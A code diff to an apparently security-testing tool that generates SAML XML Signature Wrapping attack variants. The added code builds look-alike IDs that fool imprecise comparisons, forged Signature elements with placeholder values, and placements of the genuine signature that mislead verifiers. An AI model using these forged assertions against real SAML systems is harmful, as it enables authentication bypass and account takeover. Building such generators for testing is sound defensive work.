@@ -222,9 +222,14 @@ def wrapping(text, tns, tlocal, deep=False):
     sigb = doc.outer(sig)
     root_is_target = t is doc.root
 
+    def new_id(idmode):
+        # identifiers an imprecise comparison (prefix, regular expression, case folding) would take for the genuine one
+        return {"sameid": None, "newid": tid + "e", "dotid": tid.replace("-", ".", 1) if "-" in tid else tid[:1] + "." + tid[2:],
+                "lastdot": tid[:-1] + ".", "caseid": tid.swapcase(), "prefixid": tid[:-1]}[idmode]
+
     def evil(idmode, sigmode, hide=b"", slot=None):
         """evil element bytes; hide = bytes to hide inside it at slot"""
-        e = evilize(orig, new_id=(None if idmode == "sameid" else tid + "e"), keep_sig=(sigmode == "copysig"))
+        e = evilize(orig, new_id=new_id(idmode), keep_sig=(sigmode == "copysig"))
         if hide:
             e = _hide_in(e, hide, slot)
         return e
@@ -235,6 +240,9 @@ def wrapping(text, tns, tlocal, deep=False):
         for idmode in ("sameid", "newid"):
             for sigmode in ("nosig", "copysig", "movesig"):
                 combos.append((slot, idmode, sigmode))
+        if slot in ("Advice", "Extensions", "Object"):
+            for idmode in ("dotid", "lastdot", "caseid", "prefixid"):
+                combos.append((slot, idmode, "movesig"))
     for slot, idmode, sigmode in combos:
         is_assertion_slot = slot in ("Advice", "SubjectConfirmationData", "AttributeValue")
         if root_is_target and is_assertion_slot:
@@ -256,6 +264,34 @@ def wrapping(text, tns, tlocal, deep=False):
         except LookupError:
             continue
         yield "xsw:%s:%s:%s" % (slot, idmode, sigmode), "xsw", doc.replace(t, e).text()
+
+    # forged own Signature (Reference rewritten to the forged ID, worthless value) while the genuine Signature comes EARLIER in document
+    # order below the forged element - that is the one the tool picks
+    first_slot = "Extensions" if root_is_target else "Advice"
+    for idmode in ("newid", "dotid"):
+        nid = new_id(idmode)
+        forged = re.sub(br'URI="#[^"]*"', b'URI="#' + nid.encode() + b'"', sigb, count=1)
+        forged = re.sub(br"(<[^>]*SignatureValue[^>]*>)[^<]*(</)", br"\1AAAA\2", forged)
+        base = evilize(orig, new_id=nid, keep_sig=False)
+        bd = Doc(base)
+        iss = bd.root.child(SAML, "Issuer")
+        if iss is None:
+            continue
+        # (a) the whole genuine signed element inside an early slot, then the forged signature
+        if first_slot == "Advice":
+            hide_el = el(bd, SAML, "saml", "Advice", orig)
+        else:
+            hide_el = el(bd, SAMLP, "samlp", "Extensions", orig)
+        yield "xsw-forged-own-sig:genuine-in-early-%s:%s" % (first_slot, idmode), "xsw", doc.replace(t, bd.insert_after(iss, hide_el + forged).b).text()
+        # (b) the bare genuine Signature inside Issuer, the genuine element (signature stripped) parked later
+        d2 = bd.append_child(iss, sigb)
+        iss2 = d2.root.child(SAML, "Issuer")
+        d2 = d2.insert_after(iss2, forged)
+        try:
+            parked = _hide_in(d2.b, orig_nosig, first_slot)
+        except LookupError:
+            continue
+        yield "xsw-forged-own-sig:genuine-sig-in-Issuer:%s" % idmode, "xsw", doc.replace(t, parked).text()
 
     # sibling placements (assertion targets only)
     if not root_is_target:
